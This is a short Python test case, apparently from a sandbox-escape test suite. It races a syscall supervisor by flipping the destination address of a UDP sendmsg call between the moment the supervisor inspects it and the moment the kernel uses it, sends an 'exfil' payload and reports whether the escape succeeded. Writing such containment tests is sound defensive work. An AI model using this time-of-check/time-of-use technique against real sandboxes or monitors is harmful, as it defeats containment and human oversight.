"""Flip msghdr.msg_name between the supervisor's look and the kernel's use (unconnected UDP)."""

META = {"group": "network"}


def attack():
    import socket, struct, threading, time
    try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    except OSError as e: return f"contained: {e}"
    s.settimeout(0.05)
    name = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack(">H", T["udp_port"]) + socket.inet_aton("127.0.0.1") + bytes(8), 16)
    data = ctypes.create_string_buffer(b"exfil", 5); iov = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), 5), 16)
    on = struct.pack("QIxxxxQQQQIxxxx", ctypes.addressof(name), 16, ctypes.addressof(iov), 1, 0, 0, 0); off = struct.pack("QIxxxxQQQQIxxxx", 0, 0, ctypes.addressof(iov), 1, 0, 0, 0)
    msg = ctypes.create_string_buffer(off, len(off)); stop = []
    def flip():
        while not stop: ctypes.memmove(msg, on, 16); ctypes.memmove(msg, off, 16)
    t = threading.Thread(target=flip, daemon=True); t.start(); end = time.time() + 2.5; k = 0
    try:
        while time.time() < end:
            r, e = sysc("sendmsg", s.fileno(), msg, 0x40); k += 1
            if r == 5:
                try: s.recv(10); return f"ESCAPED: datagram answered after {k} tries"
                except OSError: pass
    finally: stop.append(1)
    return f"contained: {k} tries"
